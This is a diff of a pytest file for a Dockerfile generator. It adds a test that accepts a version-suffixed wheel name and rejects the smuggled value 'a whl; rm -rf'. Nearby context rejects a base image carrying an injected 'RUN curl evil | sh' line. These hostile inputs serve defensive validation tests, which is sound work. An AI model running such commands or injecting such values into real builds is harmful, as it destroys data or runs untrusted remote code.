@@ -53,6 +53,17 @@ def test_no_ca_bundle_no_pip_cert() -> None:
     assert "PIP_CERT" not in text and "ca-certificates.crt" not in text
 
 
+def test_a_wheel_of_a_commit_between_tags_is_a_plain_file_name() -> None:
+    # setuptools-scm versions a commit after a tag 1.2.1.dev3+g1a2b3c4 (a dirty tree adds .dYYYYMMDD)
+    wheel = "shipml-1.2.1.dev3+g1a2b3c4.d20261207-py3-none-any.whl"
+    text = dockerfile.render_builtin(dockerfile.BuiltinImage(
+        base_image="python:3.11-slim", model_file="model.onnx", wheel=wheel))
+    assert f"COPY {wheel} /tmp/shipml-build/" in text
+    with pytest.raises(ConfigError, match="is not a plain file name"):
+        dockerfile.render_builtin(dockerfile.BuiltinImage(
+            base_image="python:3.11-slim", model_file="model.onnx", wheel="a whl; rm -rf"))
+
+
 @pytest.mark.parametrize("base", ["python:3.11\nRUN curl evil | sh", "Python:3.11", "a b", ""])
 def test_a_base_image_that_is_not_a_reference_is_refused(base: str) -> None:
     with pytest.raises(ConfigError) as error:
